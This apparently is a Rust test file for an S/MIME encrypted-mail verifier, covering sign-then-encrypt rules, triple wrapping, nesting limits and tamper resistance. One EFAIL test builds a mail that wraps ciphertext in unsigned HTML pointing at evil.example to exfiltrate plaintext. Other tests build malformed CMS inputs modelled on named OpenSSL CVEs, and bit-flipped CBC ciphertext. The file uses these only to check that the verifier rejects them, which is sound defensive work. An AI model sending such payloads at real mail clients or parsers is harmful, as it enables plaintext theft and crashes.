//! Encrypted mail: what was signed inside counts, nothing else does, and no answer tells what came out of altered ciphertext.

use super::*;

/// The body of a mail that encrypts `entity` for the office.
fn sealed(entity: &[u8], person: &Person, cipher: Cipher) -> Vec<u8> {
    let recipients = std::slice::from_ref(&person.certificate);
    let body = encrypt_entity(entity, recipients, cipher, &|buffer| buffer.fill(7)).unwrap();
    [format!("From: {RIO}\r\n").as_bytes(), &body].concat()
}

/// The signed entity of a mail: what stands below its From.
fn below_from(mail: &[u8]) -> Vec<u8> {
    let at = mail.windows(2).position(|w| w == b"\r\n").unwrap() + 2;
    mail[at..].to_vec()
}

fn opened(mail: &[u8], keys: &[&dyn DecryptKey]) -> Vec<Code> {
    let policy = Policy::default();
    let question = Question {
        keys,
        ..question(&policy)
    };
    let judgement = verify(mail, &question);
    if judgement
        .reasons()
        .iter()
        .any(|r| r.code == Code::DecryptionFailed)
    {
        assert!(judgement.content_type().is_none());
        assert!(judgement.proven_signer().is_none());
    }
    judgement.reasons().iter().map(|r| r.code).collect()
}

fn keys() -> [&'static dyn DecryptKey; 2] {
    [&cast().office.key, &cast().office_ec.key]
}

#[test]
fn takes_what_is_signed_and_then_encrypted_for_either_key_by_either_cipher() {
    let cast = cast();
    let opaque_mail = Forge {
        content: Some(ENTITY),
        ..Forge::good(&cast.rio)
    }
    .mail();
    for inner in [
        below_from(&Forge::good(&cast.rio).mail()),
        below_from(&opaque_mail),
    ] {
        for person in [&cast.office, &cast.office_ec] {
            for cipher in [Cipher::Aes256Cbc, Cipher::Aes256Gcm] {
                let mail = sealed(&inner, person, cipher);
                assert_eq!(opened(&mail, &keys()), []);
                assert_eq!(opened(&mail, &[&person.key]), []);
                assert_eq!(opened(&mail, &[]), [Code::DecryptionFailed]);
                assert_eq!(opened(&mail, &[&cast.rio.key]), [Code::DecryptionFailed]);
            }
        }
    }
}

#[test]
fn takes_nothing_that_is_encrypted_and_not_signed() {
    let cast = cast();
    let cbc = sealed(ENTITY, &cast.office, Cipher::Aes256Cbc);
    assert_eq!(opened(&cbc, &keys()), [Code::DecryptionFailed]);
    let gcm = sealed(ENTITY, &cast.office, Cipher::Aes256Gcm);
    assert_eq!(opened(&gcm, &keys()), [Code::NotSigned]);
    // Encrypted and then signed: the officer vouches for a ciphertext, not for what is in it.
    for (cipher, expected) in [
        (Cipher::Aes256Cbc, Code::DecryptionFailed),
        (Cipher::Aes256Gcm, Code::NotSigned),
    ] {
        let inner = below_from(&sealed(ENTITY, &cast.office, cipher));
        let mail = detached(&inner, &Forge::over(&cast.rio, &inner).der());
        assert_eq!(opened(&mail, &keys()), [expected]);
    }
}

#[test]
fn takes_a_triple_wrapped_mail_of_one_person_and_of_no_two() {
    let cast = cast();
    for (inner, expected) in [
        (&cast.rio, vec![]),
        (&cast.other, vec![Code::SignersDiffer]),
        (
            &cast.stranger,
            vec![Code::CertificateSignatureWrong, Code::SignersDiffer],
        ),
    ] {
        let signed = below_from(&Forge::good(inner).mail());
        let middle = below_from(&sealed(&signed, &cast.office_ec, Cipher::Aes256Cbc));
        let mail = detached(&middle, &Forge::over(&cast.rio, &middle).der());
        let mut found = opened(&mail, &keys());
        found.sort();
        let mut expected = expected;
        expected.sort();
        assert_eq!(found, expected);
        // The office that opened it and passes the inside on under a signature of its own is not the signer either.
        let policy = Policy::default();
        let question = Question {
            keys: &keys(),
            ..question(&policy)
        };
        let judgement = verify(&mail, &question);
        assert_eq!(judgement.proven_signer().is_some(), expected.is_empty());
    }
}

#[test]
fn what_an_encrypted_mail_opened_to_is_judged_without_a_key() {
    let cast = cast();
    let policy = Policy::default();
    let with_keys = Question {
        keys: &keys(),
        ..question(&policy)
    };
    let detached_mail = below_from(&Forge::good(&cast.rio).mail());
    let opaque_mail = below_from(
        &Forge {
            content: Some(ENTITY),
            ..Forge::good(&cast.rio)
        }
        .mail(),
    );
    let middle = below_from(&sealed(&detached_mail, &cast.office_ec, Cipher::Aes256Cbc));
    let mails = [
        sealed(&detached_mail, &cast.office, Cipher::Aes256Cbc),
        sealed(&opaque_mail, &cast.office, Cipher::Aes256Gcm),
        // Signed, encrypted, and signed again.
        detached(&middle, &Forge::over(&cast.rio, &middle).der()),
        // Encrypted twice, with the outer header's fields in every order and fold.
        sealed(&middle, &cast.office, Cipher::Aes256Gcm),
    ];
    for mail in mails {
        let mail = [b"X-Folded: a\r\n b\r\nSubject: Specimen\r\n".as_slice(), &mail].concat();
        for mail in [at_rest(&mail), mail] {
            let verified = verify(&mail, &with_keys).into_verified().unwrap();
            let opened = verified.opened().expect("it came encrypted").to_vec();
            let again = verify_opened(&opened, &question(&policy))
                .into_verified()
                .unwrap();
            assert_eq!(again.content(), verified.content());
            assert_eq!(again.content_sha256(), verified.content_sha256());
            assert_eq!(
                (again.signer(), again.from(), again.subject()),
                (verified.signer(), verified.from(), verified.subject())
            );
            assert!(again.opened().is_none());
            let text = String::from_utf8_lossy(&opened).into_owned();
            assert!(text.contains("X-Folded: a\r\n b\r\n") || text.contains("X-Folded: a\n b\r\n"));
            assert!(!text.contains("enveloped-data"), "{text}");
            let altered = text.replacen("From: rio@", "From: boss@", 1);
            assert_ne!(altered, text);
            assert!(
                verify_opened(altered.as_bytes(), &question(&policy))
                    .into_verified()
                    .is_err()
            );
        }
    }
    let plain = Forge::good(&cast.rio).mail();
    assert!(
        verify(&plain, &with_keys)
            .into_verified()
            .unwrap()
            .opened()
            .is_none()
    );
    // What is still encrypted is not opened by having been opened once.
    let still = sealed(&detached_mail, &cast.office, Cipher::Aes256Gcm);
    let found = verify_opened(&still, &with_keys);
    assert_eq!(found.reasons()[0].code, Code::DecryptionFailed);
}

#[test]
fn gives_up_on_layers_without_end() {
    let cast = cast();
    let mut entity = ENTITY.to_vec();
    for _ in 0..6 {
        entity = below_from(&detached(&entity, &Forge::over(&cast.rio, &entity).der())).to_vec();
        // Each layer has a boundary of its own.
        let unique = format!("b{}", entity.len());
        entity = String::from_utf8(entity)
            .unwrap()
            .replacen("boundary=b;", &format!("boundary={unique};"), 1)
            .replacen("--b\r\n", &format!("--{unique}\r\n"), 1)
            .into_bytes();
        let text = String::from_utf8(entity).unwrap();
        let (head, tail) = text.rsplit_once("\r\n--b\r\n").unwrap();
        let tail = tail.replace("--b--", &format!("--{unique}--"));
        entity = format!("{head}\r\n--{unique}\r\n{tail}").into_bytes();
    }
    let mail = [format!("From: {RIO}\r\n").as_bytes(), &entity].concat();
    assert_eq!(codes(&mail), [Code::TooLarge]);
}

/// EFAIL, direct exfiltration: unsigned HTML around the ciphertext. Nothing is opened, so nothing can leak.
#[test]
fn efail_opens_no_ciphertext_that_stands_beside_other_parts() {
    let cast = cast();
    let inner = below_from(&Forge::good(&cast.rio).mail());
    let cipher = below_from(&sealed(&inner, &cast.office, Cipher::Aes256Cbc));
    let mail = [
        format!("From: {RIO}\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--m\r\n").as_bytes(),
        &cipher,
        b"\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n",
    ]
    .concat();
    let policy = Policy::default();
    let question = Question {
        keys: &keys(),
        ..question(&policy)
    };
    let judgement = verify(&mail, &question);
    assert_eq!(judgement.reasons()[0].code, Code::UnsignedContent);
    assert!(!judgement.encrypted() && judgement.content_sha256().is_none());
}

/// EFAIL, CBC gadgets: whatever is altered in the ciphertext gives one code and no content, or leaves the signed bytes as they were.
#[test]
fn efail_tells_nothing_of_altered_ciphertext() {
    let cast = cast();
    let inner = below_from(&Forge::good(&cast.rio).mail());
    for cipher in [Cipher::Aes256Cbc, Cipher::Aes256Gcm] {
        let recipients = std::slice::from_ref(&cast.office_ec.certificate);
        let der = encrypt(&inner, recipients, cipher, &|buffer| buffer.fill(7)).unwrap();
        let mail = |der: &[u8]| opaque(der);
        assert_eq!(opened(&mail(&der), &keys()), []);
        let start = der.len() - inner.len();
        let mut failed = 0;
        for step in 0..120 {
            let at = start + step * (inner.len() - 20) / 120;
            let mut altered = der.clone();
            altered[at] ^= 1 << (step % 8);
            let found = opened(&mail(&altered), &keys());
            assert!(
                found.is_empty() || found == [Code::DecryptionFailed],
                "{at}: {found:?}"
            );
            failed += usize::from(!found.is_empty());
        }
        assert!(failed > 100, "{failed} of 120 alterations were noticed");
    }
}

/// An EnvelopedData by hand: its recipients, the algorithm of the content, the content (none at all where it is empty).
fn enveloped(recipients: &[Vec<u8>], algorithm: &[u8], content: &[u8]) -> Vec<u8> {
    let content = if content.is_empty() {
        Vec::new()
    } else {
        element(0x80, content)
    };
    let data = sequence(&[
        &[tlv::INTEGER, 1, 2],
        &set(&[&recipients.concat()]),
        &sequence(&[&oid(ID_DATA), algorithm, &content]),
    ]);
    sequence(&[&oid("1.2.840.113549.1.7.3"), &element(0xa0, &data)])
}

fn key_transport(algorithm: &[u8], key: &[u8]) -> Vec<u8> {
    sequence(&[
        &[tlv::INTEGER, 1, 2],
        &element(0x80, b"somebody"),
        algorithm,
        &element(tlv::OCTET_STRING, key),
    ])
}

fn key_agreement(point: &[u8], algorithm: &[u8]) -> Vec<u8> {
    let curve = sequence(&[&oid("1.2.840.10045.2.1"), &oid("1.2.840.10045.3.1.7")]);
    let originator = element(
        0xa1,
        &[curve, element(tlv::BIT_STRING, &[&[0], point].concat())].concat(),
    );
    let recipient = sequence(&[
        &element(0xa0, &element(0x04, b"somebody")),
        &element(tlv::OCTET_STRING, &[0; 40]),
    ]);
    element(
        0xa1,
        &[
            &[tlv::INTEGER, 1, 3][..],
            &element(0xa0, &originator),
            algorithm,
            &sequence(&[&recipient]),
        ]
        .concat(),
    )
}

/// What made OpenSSL crash, loop or tell secrets makes one code here.
#[test]
fn openssl_cves_in_encrypted_data_are_one_code() {
    const RSA: &str = "1.2.840.113549.1.1.1";
    const OAEP: &str = "1.2.840.113549.1.1.7";
    let cbc = sequence(&[
        &oid("2.16.840.1.101.3.4.1.42"),
        &element(tlv::OCTET_STRING, &[7; 16]),
    ]);
    let point = [&[4][..], &[1; 64]].concat();
    let kdf = |parameters: &[u8]| sequence(&[&oid("1.3.132.1.11.1"), parameters]);
    let oaep = |source: &[u8]| sequence(&[&oid(OAEP), &sequence(&[&element(0xa2, source)])]);
    let password = |parameters: &[u8]| {
        element(
            0xa3,
            &[
                &[tlv::INTEGER, 1, 0][..],
                &sequence(&[&oid("1.2.840.113549.1.9.16.3.9"), parameters]),
                &element(tlv::OCTET_STRING, &[]),
            ]
            .concat(),
        )
    };
    let block = vec![9; 64];
    for (what, recipients, algorithm, content) in [
        (
            "CVE-2026-28389: key agreement without parameters",
            vec![key_agreement(&point, &kdf(&[]))],
            &cbc,
            &block,
        ),
        (
            "CVE-2026-28390: OAEP whose source has no parameters",
            vec![key_transport(
                &oaep(&sequence(&[&oid("1.2.840.113549.1.1.9")])),
                &[1; 256],
            )],
            &cbc,
            &block,
        ),
        (
            "CVE-2025-9230: a password recipient with an empty key",
            vec![password(&sequence(&[
                &oid("2.16.840.1.101.3.4.1.42"),
                &element(4, &[0; 16]),
            ]))],
            &cbc,
            &block,
        ),
        (
            "CVE-2026-28387 and others: a password recipient without parameters",
            vec![password(&[])],
            &cbc,
            &block,
        ),
        (
            "CVE-2019-1563: guesses beside one another",
            (0..40)
                .map(|n| key_transport(&sequence(&[&oid(RSA), &[5, 0]]), &[n; 256]))
                .collect(),
            &cbc,
            &block,
        ),
        ("no recipient", vec![], &cbc, &block),
        (
            "more recipients than anybody has",
            vec![key_transport(&sequence(&[&oid(RSA), &[5, 0]]), &[1; 256]); 100],
            &cbc,
            &block,
        ),
        (
            "a point that is not on the curve",
            vec![key_agreement(
                &point,
                &kdf(&sequence(&[&oid("2.16.840.1.101.3.4.1.45")])),
            )],
            &cbc,
            &block,
        ),
        (
            "the point at infinity",
            vec![key_agreement(
                &[0],
                &kdf(&sequence(&[&oid("2.16.840.1.101.3.4.1.45")])),
            )],
            &cbc,
            &block,
        ),
        (
            "CVE-2023-0215 and others: no content",
            vec![key_transport(&sequence(&[&oid(RSA), &[5, 0]]), &[1; 256])],
            &cbc,
            &vec![],
        ),
        (
            "a recipient of an odd type",
            vec![vec![tlv::INTEGER, 1, 1], vec![0xa4, 2, 5, 0]],
            &cbc,
            &block,
        ),
    ] {
        let mail = opaque(&enveloped(&recipients, algorithm, content));
        assert_eq!(opened(&mail, &keys()), [Code::DecryptionFailed], "{what}");
    }
}

/// CVE-2025-15467: parameters of AES-GCM longer than any nonce; and tags cut short.
#[test]
fn openssl_cve_of_long_nonces_is_one_code() {
    let cast = cast();
    let inner = below_from(&Forge::good(&cast.rio).mail());
    let recipients = std::slice::from_ref(&cast.office.certificate);
    let der = encrypt(&inner, recipients, Cipher::Aes256Gcm, &|buffer| buffer.fill(7)).unwrap();
    assert_eq!(opened(&opaque(&der), &keys()), []);
    let info = tlv::whole(&der).unwrap();
    let mut outer = info.children();
    let kind = outer.next().unwrap();
    let data = tlv::whole(outer.next().unwrap().value).unwrap();
    let mut fields = data.children();
    let head = [fields.next().unwrap().raw, fields.next().unwrap().raw].concat();
    let mut content = fields.next().unwrap().children();
    let (id, _, cipher) = (
        content.next().unwrap().raw,
        content.next().unwrap(),
        content.next().unwrap().raw,
    );
    let tag = fields.next().unwrap().value;
    let built = |nonce: &[u8], tag: &[u8]| {
        let parameters = sequence(&[&element(tlv::OCTET_STRING, nonce), &[tlv::INTEGER, 1, 16]]);
        let algorithm = sequence(&[&oid("2.16.840.1.101.3.4.1.46"), &parameters]);
        let data = sequence(&[
            &head,
            &sequence(&[id, &algorithm, cipher]),
            &element(tlv::OCTET_STRING, tag),
        ]);
        opaque(&sequence(&[kind.raw, &element(0xa0, &data)]))
    };
    assert_eq!(opened(&built(&[7; 12], tag), &keys()), []);
    for (nonce, tag) in [
        (&vec![7; 4096], tag),
        (&vec![7; 13], tag),
        (&vec![], tag),
        (&vec![7; 12], &tag[..12]),
        (&vec![7; 12], &tag[..1]),
        (&vec![7; 12], &[]),
    ] {
        assert_eq!(opened(&built(nonce, tag), &keys()), [Code::DecryptionFailed]);
    }
}
